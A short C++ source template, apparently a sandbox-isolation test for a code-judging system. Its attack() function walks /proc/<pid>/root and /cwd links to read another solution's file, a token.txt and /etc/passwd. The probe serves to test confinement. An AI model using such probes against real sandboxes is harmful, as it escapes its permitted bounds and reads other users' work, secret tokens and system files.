// SPDX-License-Identifier: MIT
@COMMON@
static void attack() {
    for (const std::string& process :
         {std::to_string(::getppid()), std::string("1"), std::string("self"), std::string("thread-self")})
        for (const char* link : {"/root", "/cwd", "/task/1/root"})
            for (const char* path : {"@ROOT@/solutions/01-twice/twice.cpp", "@HOME@/token.txt", "/etc/passwd"})
                show(("/proc/" + process + link + path).c_str());
}
